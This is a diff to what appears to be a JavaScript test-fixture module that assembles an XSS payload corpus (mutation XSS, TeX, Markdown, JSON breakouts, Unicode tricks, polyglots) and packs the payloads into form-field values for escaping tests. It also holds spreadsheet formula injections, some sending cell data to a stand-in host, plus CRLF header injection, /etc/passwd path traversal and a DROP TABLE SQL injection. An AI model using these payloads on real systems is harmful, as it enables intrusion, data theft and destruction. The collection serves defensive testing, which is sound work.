@@ -1,8 +1,10 @@
 // Texts that would run as scripts if any page took them for markup. Each sets window.__xss, or opens a dialog.
+// PAYLOADS are short enough for a name and have nothing in them that cannot be shown; CORPUS has all the others too.
 
 const RUN = '__xss=1';
 
-const TAGS = [
+/** Elements by themselves: all but one are markup to every browser. */
+export const TAGS = [
   `<script>${RUN}</script>`,
   `<SCRIPT>${RUN}</SCRIPT>`,
   `<scr<script>ipt>${RUN}</script>`,
@@ -130,5 +132,176 @@ const CODED = [
   `=HYPERLINK("javascript:${RUN}")`,
 ];
 
-/** All of them, each once. */
+/** Those that are short and can be shown, each once. */
 export const PAYLOADS = [...new Set([...TAGS, ...ENDS, ...SCRIPTS, ...CODED])];
+
+// Harmless to the first reader, markup to the second: what is read, written out and read again.
+const MUTATIONS = [
+  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${RUN}&gt;">`,
+  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${RUN}>`,
+  `<svg></p><style><a id="</style><img src=x onerror=${RUN}>">`,
+  `<noscript><style></noscript><img src=x onerror=${RUN}>`,
+  `<title><a title="</title><img src=x onerror=${RUN}>">`,
+  `<textarea><a title="</textarea><img src=x onerror=${RUN}>">`,
+  `<xmp><p title="</xmp><img src=x onerror=${RUN}>">`,
+  `<listing>&lt;img src=x onerror=${RUN}&gt;</listing>`,
+  `<svg><desc><![CDATA[</desc><script>${RUN}</script>]]></svg>`,
+  `<svg><foreignObject><iframe srcdoc="<script>parent.${RUN}</script>"></iframe></foreignObject></svg>`,
+  `<math><annotation-xml encoding="text/html"><img src=x onerror=${RUN}></annotation-xml></math>`,
+  `<template shadowrootmode=open><script>${RUN}</script></template>`,
+  `<select><template><script>${RUN}</script></template></select><img src=x onerror=${RUN}>`,
+  `<table><td><form><input name=attributes></form><svg onload=${RUN}>`,
+  `<form id=defaultView><input name=nonce><input name=cookie>`,
+  `<p id="<!--"><script>${RUN}//--></script>`,
+];
+
+const TEX = [
+  `$$\\href{javascript:${RUN}}{\\text{x}}$$`,
+  `\\(\\url{javascript:${RUN}}\\)`,
+  `\\[\\html{<img src=x onerror=${RUN}>}\\]`,
+  `$\\htmlData{x=" onmouseover="${RUN}}{x}$`,
+  `$\\class{x" onclick="${RUN}}{x}$`,
+  `$\\style{animation:x" onanimationstart="${RUN}}{x}$`,
+  `$\\text{<img src=x onerror=${RUN}>}$`,
+  `$\\require{html}\\href{javascript:${RUN}}{x}$`,
+  `$\\unicode{x3c}script\\unicode{x3e}${RUN}$`,
+  `$\\includegraphics{x" onerror="${RUN}}$`,
+  `$\\def\\x{\\x\\x}\\x$`,
+  `$\\input{/etc/passwd}$`,
+];
+
+const MARKDOWN = [
+  `<javascript:${RUN}>`,
+  `[x](<javascript:${RUN}>)`,
+  `[x](JaVaScRiPt&#58;${RUN})`,
+  `[x]: javascript:${RUN} "x"`,
+  '[x](data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX194c3M9MTwvc2NyaXB0Pg==)',
+  `![x](x "x" onerror="${RUN}")`,
+  `\`</code><img src=x onerror=${RUN}>\``,
+  `x | y\n--|--\n<img src=x onerror=${RUN}> | z`,
+];
+
+/** What a table program would take for a formula. */
+export const FORMULAS = [
+  '=1+1',
+  '+1+1',
+  '-1+1',
+  '@SUM(1+1)',
+  '\t=1+1',
+  '\r=1+1',
+  '\n=1+1',
+  '＝1+1',
+  '"=1+1',
+  ';=1+1',
+  ",=1+1",
+  "=cmd|' /C calc'!A0",
+  "@SUM(1+1)*cmd|' /C calc'!A0",
+  "-2+3+cmd|' /C calc'!A0",
+  '=HYPERLINK("http://elsewhere.invalid/?"&A1,"x")',
+  '=IMPORTXML(CONCAT("http://elsewhere.invalid/",A1),"//a")',
+  '=WEBSERVICE("http://elsewhere.invalid/")',
+];
+
+const JSONS = [
+  `"}</script><script>${RUN}</script>`,
+  `"}]};${RUN};//`,
+  `\\"}]};${RUN};//`,
+  `'}-(${RUN})-{'`,
+  `<!--<script>${RUN}`,
+  `<!--<script></script>${RUN}`,
+  `]]><script>${RUN}</script>`,
+  '{"__proto__":{"innerHTML":"<img src=x onerror=__xss=1>"}}',
+  '{"data-props":{"text":"</leptos-island><script>__xss=1</script>"}}',
+  `&quot;}' data-component='x' onclick='${RUN}`,
+  `\\u003c/script\\u003e\\u003cscript\\u003e${RUN}`,
+];
+
+const ODD = [
+  `\u2028${RUN}\u2029`,
+  `//\u2028${RUN}`,
+  `\u202e<script>${RUN}</script>`,
+  `\u2067\u202egnp.<img src=x onerror=${RUN}>`,
+  `\u200b<\u200bscript>${RUN}</script>`,
+  `\ufeff<script>${RUN}</script>`,
+  `\u00a0" onmouseover="${RUN}`,
+  `\ufffd<img src=x onerror=${RUN}>`,
+  `\u{e0001}\u{1f9e8}<svg onload=${RUN}>`,
+  `a${'\u0301'.repeat(40)}<img src=x onerror=${RUN}>`,
+  `<scr\0ipt>${RUN}</scr\0ipt>`,
+  `<img\0src=x onerror=${RUN}>`,
+  `\0"><img src=x onerror=${RUN}>`,
+  `<img\x0csrc=x\x0bonerror=${RUN}>`,
+  `\x1b[31m<script>${RUN}</script>\x1b]0;x\x07`,
+  `\x80\x9f<script>${RUN}</script>`,
+  `x\r\nSet-Cookie: x=1\r\n\r\n<script>${RUN}</script>`,
+  `x\r\nContent-Security-Policy: script-src 'unsafe-inline'`,
+  `%00<script>${RUN}</script>`,
+  `%0d%0aLocation: javascript:${RUN}`,
+  '../../../../etc/passwd',
+  "'; DROP TABLE account; --",
+  '{ $n } { -term } { msg.attr }',
+];
+
+const POLYGLOTS = [
+  'jaVasCript:/*-/*`/*\\`/*\'/*"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e',
+  `'">><marquee><img src=x onerror=confirm(1)></marquee>"></plaintext\\></|\\><plaintext/onmouseover=prompt(1)><script>prompt(1)</script>@x<isindex formaction=javascript:alert(1) type=submit>'-->"></script><script>alert(1)</script>">`,
+  `-->'"/></sCript><svg x=">" onload=(co\\u006efirm)\`\`>`,
+  `" onclick=alert(1)//<button ' onclick=alert(1)//> */ alert(1)//`,
+  `javascript:"/*'/*\`/*--></noscript></title></textarea></style></template></noembed></script><html \\" onmouseover=/*&lt;svg/*/onload=${RUN}//>`,
+  `'"()&%<acx><ScRiPt >prompt(1)</ScRiPt>`,
+  `{{7*7}}\${7*7}<%=7*7%>#{7*7}*{7*7}@(7*7)"'><svg/onload=${RUN}>`,
+];
+
+const LONG = [
+  `${'A'.repeat(3_000)}"><img src=x onerror=${RUN}>`,
+  `${'<b>'.repeat(400)}<img src=x onerror=${RUN}>`,
+  `${'"\'><'.repeat(300)}<svg onload=${RUN}>`,
+];
+
+/** Everything, each once. */
+export const CORPUS = [...new Set([
+  ...PAYLOADS, ...MUTATIONS, ...TEX, ...MARKDOWN, ...FORMULAS, ...JSONS, ...ODD, ...POLYGLOTS, ...LONG,
+])];
+
+// Not in names, titles and the like: control characters, and what some take for the end of a line.
+const UNPRINTABLE = /[\0-\x1f\x7f-\x9f\u2028\u2029]/;
+
+/** Between two payloads of a value. It closes nothing that one of them has opened. */
+const BETWEEN = ' ';
+
+let turn = 0;
+/** More than a hundred payloads, every other field the other half: all of them by everything take too long for every change. */
+function share() {
+  turn += 1;
+  return process.env.PLUMB_XSS_ALL ? CORPUS : CORPUS.filter((_, at) => at % 2 === turn % 2);
+}
+
+/**
+ * The whole corpus as values of at most `most` characters, each beginning with `mark` and a number: those that any text field of
+ * that length has to take (`fit`; formulas by themselves: `bare`), and those that it may refuse, being too long or
+ * having control characters (`odd`).
+ */
+export function values(mark, most) {
+  let made = 0;
+  const own = share();
+  const head = () => `${mark}-${(made += 1).toString(36).padStart(2, '0')}${BETWEEN}`;
+  const room = most - mark.length - '-00'.length - BETWEEN.length;
+  const length = (text) => [...text].length;
+  const fits = (text) => length(text) <= room && !UNPRINTABLE.test(text);
+  const pack = (texts) => {
+    const packed = [];
+    for (const text of texts) {
+      const longer = packed.length > 0 ? packed.at(-1) + BETWEEN + text : null;
+      if (longer !== null && length(longer) <= most) packed[packed.length - 1] = longer;
+      else packed.push(head() + text);
+    }
+    return packed;
+  };
+  // A formula is one only where a value begins with it: those have the mark behind them.
+  const bare = FORMULAS.filter(fits).map((text) => text + BETWEEN + mark);
+  return {
+    fit: pack(own.filter(fits)),
+    bare,
+    odd: [...pack(own.filter((text) => !fits(text))), ...FORMULAS.filter((text) => UNPRINTABLE.test(text)).map((text) => text + BETWEEN + mark)],
+  };
+}
